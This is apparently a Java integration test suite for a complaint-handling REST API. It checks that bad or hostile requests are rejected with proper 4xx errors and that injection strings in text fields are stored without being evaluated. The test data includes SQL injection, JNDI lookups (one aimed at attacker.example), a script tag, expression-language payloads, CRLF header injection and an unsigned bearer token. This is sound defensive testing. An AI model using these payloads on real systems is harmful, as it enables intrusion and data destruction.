package io.complaintflow.api.protection;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import io.complaintflow.api.ApiIntegrationTest;
import io.complaintflow.api.Submissions;
import io.complaintflow.process.handling.HandlingProcess;

/**
 * What a careless or hostile client may send: every case is answered with the right 4xx as problem+json naming the
 * field where there is one, never a 5xx, and nothing is stored (no complaint row, no process instance). Paths and
 * headers may name {@code {ticket}} and {@code {token}} (a complaint filed for the suite), {@code {otherToken}} (another
 * customer's).
 */
class BadInputTests extends ApiIntegrationTest {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String JSON_TYPE = "application/json";
  private static final String SCORES = "{\"channelEase\": 5, \"staffAttitude\": 5, \"handlingTime\": 5, \"handlingResult\": 5}";
  private static final HttpClient HTTP = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
      .connectTimeout(Duration.ofSeconds(5)).build();

  private static final String VICTIM = "badinputvictim";

  private static String ticket;
  private static String token;
  private static String otherToken;

  /** A request and what it must be answered with. */
  record Case(String method, String path, Map<String, String> headers, byte[] body, int status, String field) {

    Case expect(int status, String field) {
      return new Case(method, path, headers, body, status, field);
    }

    Case header(String name, String value) {
      Map<String, String> h = new LinkedHashMap<>(headers);
      h.put(name, value);
      return new Case(method, path, h, body, status, field);
    }

    Case staff(String user, String password) {
      return header("Authorization", "Basic " + Base64.getEncoder()
          .encodeToString((user + ":" + password).getBytes(StandardCharsets.UTF_8)));
    }

    Case customer(String which) {
      return header("X-Tracking-Token", which);
    }
  }

  @BeforeEach
  void complaints() {
    if (identity.createUserQuery().userId(VICTIM).count() == 0) {
      org.camunda.bpm.engine.identity.User u = identity.newUser(VICTIM);
      u.setPassword("right-password-0123");
      identity.saveUser(u);
      identity.createMembership(VICTIM, "agents");
    }
    if (ticket == null) {
      JsonNode filed = file(Submissions.valid()).json();
      ticket = filed.path("ticket").asText();
      token = filed.path("trackingToken").asText();
      otherToken = file(Submissions.valid()).json().path("trackingToken").asText();
    }
  }

  static Stream<Arguments> badInput() {
    List<Arguments> cases = new ArrayList<>();
    // --- intake: malformed JSON --------------------------------------------------------------------------------------
    add(cases, "malformed JSON: truncated object", intake("{\"customer\": ").expect(400, "body"));
    add(cases, "malformed JSON: not JSON at all", intake("hello").expect(400, "body"));
    add(cases, "malformed JSON: empty body", intake("").expect(400, "body"));
    add(cases, "malformed JSON: an array instead of an object", intake("[]").expect(400, "body"));
    add(cases, "malformed JSON: null", intake("null").expect(400, "body"));
    add(cases, "malformed JSON: single quotes", intake("{'channel': 'WEB'}").expect(400, "body"));
    add(cases, "malformed JSON: invalid UTF-8 bytes",
        request("POST", "/api/complaints", JSON_TYPE, invalidUtf8()).expect(400, "body"));
    // --- intake: wrong types -----------------------------------------------------------------------------------------
    add(cases, "wrong type: description is a number", intake(with("description", 123)).expect(400, "description"));
    add(cases, "wrong type: description is an object",
        intake(with("description", Map.of("text", "x"))).expect(400, "description"));
    add(cases, "wrong type: customer is a string", intake(with("customer", "王建国")).expect(400, "customer"));
    add(cases, "wrong type: occurredAt is a boolean", intake(with("occurredAt", true)).expect(400, "occurredAt"));
    add(cases, "wrong type: channel is a number", intake(with("channel", 1)).expect(400, "channel"));
    add(cases, "wrong type: customer.name is an array",
        intake(with("customer/name", List.of("王", "建国"))).expect(400, "customer.name"));
    // --- intake: enums, dates ------------------------------------------------------------------------------------------
    add(cases, "unknown enum: channel FAX", intake(with("channel", "FAX")).expect(400, "channel"));
    add(cases, "unknown enum: channel in lower case", intake(with("channel", "web")).expect(400, "channel"));
    add(cases, "unknown enum: tier PLATINUM", intake(with("customer/tier", "PLATINUM")).expect(400, "customer.tier"));
    add(cases, "unknown enum: preferredChannel PIGEON",
        intake(with("customer/preferredChannel", "PIGEON")).expect(400, "customer.preferredChannel"));
    add(cases, "malformed date: month 13", intake(with("occurredAt", "2026-13-45T10:00:00+08:00")).expect(400, "occurredAt"));
    add(cases, "malformed date: no offset", intake(with("occurredAt", "2026-11-20T15:30:00")).expect(400, "occurredAt"));
    add(cases, "date in the future", intake(with("occurredAt", "2999-01-01T00:00:00+08:00")).expect(400, "occurredAt"));
    // --- intake: missing and invalid fields --------------------------------------------------------------------------
    add(cases, "missing field: customer", intake(without("customer")).expect(400, "customer"));
    add(cases, "missing field: description", intake(without("description")).expect(400, "description"));
    add(cases, "missing field: product", intake(without("product")).expect(400, "product"));
    add(cases, "missing field: channel", intake(without("channel")).expect(400, "channel"));
    add(cases, "missing field: occurredAt", intake(without("occurredAt")).expect(400, "occurredAt"));
    add(cases, "blank customer name", intake(with("customer/name", "   ")).expect(400, "customer.name"));
    add(cases, "neither phone nor email",
        intake(Submissions.valid().without("customer/phone").without("customer/email").json()).expect(400, "customer.phone"));
    add(cases, "invalid email", intake(with("customer/email", "not-an-email")).expect(400, "customer.email"));
    add(cases, "invalid phone", intake(with("customer/phone", "call me maybe")).expect(400, "customer.phone"));
    add(cases, "unsupported language", intake(with("customer/language", "fr")).expect(400, "customer.language"));
    add(cases, "unknown product code", intake(with("product/code", "NO-SUCH-PRODUCT")).expect(400, "product.code"));
    add(cases, "unknown field: admin", intake(Submissions.valid().json().replaceFirst("\\{", "{\"admin\": true, "))
        .expect(400, "admin"));
    // --- intake: sizes -----------------------------------------------------------------------------------------------
    add(cases, "oversize string: description of 4001 characters",
        intake(with("description", "长".repeat(4001))).expect(400, "description"));
    add(cases, "oversize string: name of 101 characters", intake(with("customer/name", "王".repeat(101)))
        .expect(400, "customer.name"));
    add(cases, "huge payload: 200 KB", intake(with("description", "x".repeat(200_000))).expect(413, "body"));
    // --- intake: unicode edge cases -------------------------------------------------------------------------------------
    add(cases, "unicode: lone high surrogate \\uD800 (escaped)", intake(escaped("description", "\\uD800"))
        .expect(400, "description"));
    add(cases, "unicode: lone low surrogate \\uDC00 in the name (escaped)", intake(escaped("customer/name", "\\uDC00"))
        .expect(400, "customer.name"));
    add(cases, "unicode: NUL character", intake(escaped("description", "before\\u0000after")).expect(400, "description"));
    add(cases, "unicode: bell control character", intake(escaped("description", "ring\\u0007")).expect(400, "description"));
    add(cases, "unicode: right-to-left override in the name", intake(escaped("customer/name", "\\u202Egnaw"))
        .expect(400, "customer.name"));
    add(cases, "unicode: zero-width space in the product name", intake(escaped("product/name", "电饭\\u200B煲"))
        .expect(400, "product.name"));
    add(cases, "unicode: zero-width joiner between letters (not emoji)", intake(escaped("customer/name", "王\\u200D建国"))
        .expect(400, "customer.name"));
    add(cases, "unicode: byte order mark inside the text", intake(escaped("description", "a\\uFEFFb")).expect(400, "description"));
    // --- intake: injection strings where no text is allowed -----------------------------------------------------------
    add(cases, "injection: SQL in the product code", intake(with("product/code", "RC' OR 1=1--")).expect(400, "product.code"));
    add(cases, "injection: JNDI lookup in the language", intake(with("customer/language", "${jndi:ldap://x/a}"))
        .expect(400, "customer.language"));
    add(cases, "injection: JUEL in the tier", intake(with("customer/tier", "#{runtimeService}")).expect(400, "customer.tier"));
    add(cases, "injection: script in the email", intake(with("customer/email", "<script>alert(1)</script>"))
        .expect(400, "customer.email"));
    add(cases, "injection: header injection in the Idempotency-Key",
        intake(Submissions.valid().json()).header("Idempotency-Key", "abc\\r\\nX-Admin: 1").expect(400, "Idempotency-Key"));
    add(cases, "Idempotency-Key too short", intake(Submissions.valid().json()).header("Idempotency-Key", "abc")
        .expect(400, "Idempotency-Key"));
    // --- intake: content type, method ---------------------------------------------------------------------------------
    add(cases, "wrong content type: text/plain",
        request("POST", "/api/complaints", "text/plain", utf8(Submissions.valid().json())).expect(415, "Content-Type"));
    add(cases, "wrong content type: form-urlencoded",
        request("POST", "/api/complaints", "application/x-www-form-urlencoded", utf8("channel=WEB")).expect(415, "Content-Type"));
    add(cases, "wrong content type: XML",
        request("POST", "/api/complaints", "application/xml", utf8("<complaint/>")).expect(415, "Content-Type"));
    add(cases, "bad method: PUT on the intake", request("PUT", "/api/complaints", JSON_TYPE, utf8(Submissions.valid().json()))
        .expect(401, null));
    add(cases, "bad method: DELETE of a complaint by staff", request("DELETE", "/api/staff/complaints/{ticket}", null, null)
        .staff("zhangwei", "demo").expect(405, null));
    // --- customers: tickets and tokens --------------------------------------------------------------------------------
    add(cases, "status without a token", request("GET", "/api/complaints/{ticket}", null, null).expect(401, "token"));
    add(cases, "status with a wrong token", request("GET", "/api/complaints/{ticket}", null, null).customer("guess")
        .expect(403, "token"));
    add(cases, "status with another customer's token", request("GET", "/api/complaints/{ticket}", null, null)
        .customer("{otherToken}").expect(403, "token"));
    add(cases, "status with another customer's token as parameter",
        request("GET", "/api/complaints/{ticket}?token={otherToken}", null, null).expect(403, "token"));
    add(cases, "status of an unknown ticket", request("GET", "/api/complaints/CF-20000101-999999", null, null)
        .customer("{token}").expect(404, "ticket"));
    add(cases, "status of a SQL-injection ticket", request("GET", "/api/complaints/" + url("' OR 1=1--"), null, null)
        .customer("{token}").expect(404, "ticket"));
    add(cases, "reopen without a token", action("reopen", "{\"reason\": \"还是坏的\"}").expect(401, "token"));
    add(cases, "reopen with another customer's token", action("reopen", "{\"reason\": \"还是坏的\"}")
        .customer("{otherToken}").expect(403, "token"));
    add(cases, "reopen without a reason", action("reopen", "{}").customer("{token}").expect(400, "reason"));
    add(cases, "reopen of an open complaint", action("reopen", "{\"reason\": \"还是坏的\"}").customer("{token}")
        .expect(409, "ticket"));
    add(cases, "confirmation: resolved is not a boolean", action("resolution-confirmation", "{\"resolved\": \"maybe\"}")
        .customer("{token}").expect(400, "resolved"));
    add(cases, "confirmation: disputed without a comment", action("resolution-confirmation", "{\"resolved\": false}")
        .customer("{token}").expect(400, "comment"));
    add(cases, "information: NUL in the answer", action("information", "{\"answer\": \"a\\u0000b\"}").customer("{token}")
        .expect(400, "answer"));
    add(cases, "information: not awaited", action("information", "{\"answer\": \"订单号 12345\"}").customer("{token}")
        .expect(409, "ticket"));
    add(cases, "unknown customer action", action("delete", "{}").customer("{token}").expect(401, null));
    // --- survey tokens ---------------------------------------------------------------------------------------------------
    add(cases, "survey: unknown token", request("GET", "/api/revisits/" + "A".repeat(43), null, null).expect(404, "token"));
    add(cases, "survey: garbage token", request("GET", "/api/revisits/" + url("<script>"), null, null).expect(404, "token"));
    add(cases, "survey: answer to an unknown token", request("POST", "/api/revisits/nosuchsurvey", JSON_TYPE, utf8(SCORES))
        .expect(404, "token"));
    add(cases, "survey: score out of range", request("POST", "/api/revisits/nosuchsurvey", JSON_TYPE,
        utf8(SCORES.replace("\"channelEase\": 5", "\"channelEase\": 6"))).expect(400, "channelEase"));
    add(cases, "survey: score missing", request("POST", "/api/revisits/nosuchsurvey", JSON_TYPE,
        utf8("{\"channelEase\": 5}")).expect(400, "staffAttitude"));
    // --- staff: authentication and authorization ----------------------------------------------------------------------
    add(cases, "staff: no credentials", request("GET", "/api/staff/complaints", null, null).expect(401, null));
    // (not a demo user: Camunda delays a user's next sign-in after a wrong password)
    add(cases, "staff: wrong password", request("GET", "/api/staff/complaints", null, null).staff(VICTIM, "wrong")
        .expect(401, null));
    add(cases, "staff: unknown user", request("GET", "/api/staff/complaints", null, null).staff("nobody", "demo")
        .expect(401, null));
    add(cases, "staff: a bearer token while no OIDC provider is configured",
        request("GET", "/api/staff/complaints", null, null).header("Authorization", "Bearer eyJhbGciOiJub25lIn0.e30.")
            .expect(401, null));
    add(cases, "staff: an agent on the notification outbox", request("GET", "/api/staff/notifications", null, null)
        .staff("zhangwei", "demo").expect(403, null));
    add(cases, "staff: a customer's token on the staff API", request("GET", "/api/staff/complaints/{ticket}", null, null)
        .customer("{token}").expect(401, null));
    // --- staff: query and path parameters -----------------------------------------------------------------------------
    add(cases, "query: page=-1", staffGet("/api/staff/complaints?page=-1").expect(400, "page"));
    add(cases, "query: size=100000", staffGet("/api/staff/complaints?size=100000").expect(400, "size"));
    add(cases, "query: size=abc", staffGet("/api/staff/complaints?size=abc").expect(400, "size"));
    add(cases, "query: unknown status", staffGet("/api/staff/complaints?status=NOPE").expect(400, "status"));
    add(cases, "query: malformed receivedFrom", staffGet("/api/staff/complaints?receivedFrom=yesterday")
        .expect(400, "receivedFrom"));
    add(cases, "query: SQL in sort", staffGet("/api/staff/complaints?sort=" + url("receivedAt; drop table complaint"))
        .expect(400, "sort"));
    add(cases, "query: malformed date in the analysis", staffGet("/api/staff/analysis?from=2026-02-30").expect(400, "from"));
    add(cases, "query: dueWithinHours=0", staffGet("/api/staff/sla/overview?dueWithinHours=0").expect(400, "dueWithinHours"));
    add(cases, "path: case id that is not a number", staffGet("/api/staff/cases/abc").expect(400, "id"));
    add(cases, "path: unknown staff ticket", staffGet("/api/staff/complaints/CF-20000101-999999").expect(404, null));
    return cases.stream();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("badInput")
  void answersWithTheRight4xxAndStoresNothing(String name, Case c) throws Exception {
    long rows = complaintRows();
    long instances = processInstances();

    HttpResponse<String> r = send(c);

    assertThat(r.statusCode()).as(name + ": " + r.body()).isEqualTo(c.status());
    assertThat(r.headers().firstValue("Content-Type").orElse("")).as(name).startsWith("application/problem+json");
    JsonNode problem = JSON.readTree(r.body());
    assertThat(problem.path("status").asInt()).as(name).isEqualTo(c.status());
    assertThat(problem.path("type").asText()).as(name).startsWith("https://complaintflow.io/problems/");
    if (c.field() != null) {
      List<String> fields = new ArrayList<>();
      problem.path("errors").forEach(e -> fields.add(e.path("field").asText()));
      assertThat(fields).as(name + ": " + r.body()).contains(c.field());
    }
    assertThat(complaintRows()).as(name + ": complaint rows").isEqualTo(rows);
    assertThat(processInstances()).as(name + ": process instances").isEqualTo(instances);
  }

  /** Text fields take any text (markup, SQL, lookups, expressions): stored as written, never evaluated. */
  @ParameterizedTest(name = "{0}")
  @MethodSource("injectionText")
  void storesInjectionStringsInTextFieldsVerbatim(String text) throws Exception {
    HttpResponse<String> r = send(intake(Submissions.valid().with("customer/name", text).with("description", text)
        .with("desiredRemedy", text).json()));

    assertThat(r.statusCode()).as(r.body()).isEqualTo(201);
    String filed = JSON.readTree(r.body()).path("ticket").asText();
    assertThat(jdbc.queryForMap("select customer_name, description, desired_remedy from complaint where ticket = ?",
        filed)).containsValues(text, text, text);
    String instance = runtime.createProcessInstanceQuery().processInstanceBusinessKey(filed)
        .processDefinitionKey(HandlingProcess.KEY).singleResult().getId();
    assertThat(runtime.getVariable(instance, "customerName")).isEqualTo(text);
  }

  static Stream<String> injectionText() {
    return Stream.of("' OR 1=1--", "Robert'); DROP TABLE complaint;--", "<script>alert(1)</script>",
        "${jndi:ldap://attacker.example/a}", "${7*7}", "#{7*7}", "#{runtimeService.deleteProcessInstance('x', 'y')}",
        "{{7*7}} [[${7*7}]]", "😀👍🏽 𠮷野家 ✓", "一家人 👩\u200D👩\u200D👧 程序员 👨🏽\u200D💻 🏳️\u200D🌈");
  }

  // --- building and sending cases -------------------------------------------------------------------------------------

  private static void add(List<Arguments> cases, String name, Case c) {
    cases.add(Arguments.of(name, c));
  }

  private static Case request(String method, String path, String contentType, byte[] body) {
    Map<String, String> headers = new LinkedHashMap<>();
    if (contentType != null) {
      headers.put("Content-Type", contentType);
    }
    return new Case(method, path, headers, body, 0, null);
  }

  private static Case intake(String json) {
    return request("POST", "/api/complaints", JSON_TYPE, utf8(json));
  }

  private static Case action(String action, String json) {
    return request("POST", "/api/complaints/{ticket}/" + action, JSON_TYPE, utf8(json));
  }

  private static Case staffGet(String path) {
    return request("GET", path, null, null).staff("zhangwei", "demo");
  }

  private static String with(String path, Object value) {
    return Submissions.valid().with(path, value).json();
  }

  private static String without(String path) {
    return Submissions.valid().without(path).json();
  }

  /** A valid submission whose field holds {@code jsonEscaped} as written (JSON escapes such as a lone surrogate). */
  private static String escaped(String path, String jsonEscaped) {
    return Submissions.valid().with(path, "@@VALUE@@").json().replace("@@VALUE@@", jsonEscaped);
  }

  private static byte[] utf8(String s) {
    return s.getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] invalidUtf8() {
    byte[] json = utf8(with("description", "@@"));
    String s = new String(json, StandardCharsets.ISO_8859_1);
    int at = s.indexOf("@@");
    json[at] = (byte) 0xC3;
    json[at + 1] = (byte) 0x28;
    return json;
  }

  private static String url(String s) {
    return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
  }

  private String resolve(String s) {
    return s.replace("{ticket}", ticket).replace("{token}", token).replace("{otherToken}", otherToken);
  }

  private HttpResponse<String> send(Case c) throws IOException, InterruptedException {
    HttpRequest.Builder b = HttpRequest.newBuilder(URI.create("http://localhost:" + port + resolve(c.path())))
        .timeout(Duration.ofSeconds(30));
    c.headers().forEach((k, v) -> b.header(k, resolve(v)));
    b.method(c.method(), c.body() == null ? HttpRequest.BodyPublishers.noBody()
        : HttpRequest.BodyPublishers.ofByteArray(c.body()));
    return HTTP.send(b.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
  }
}
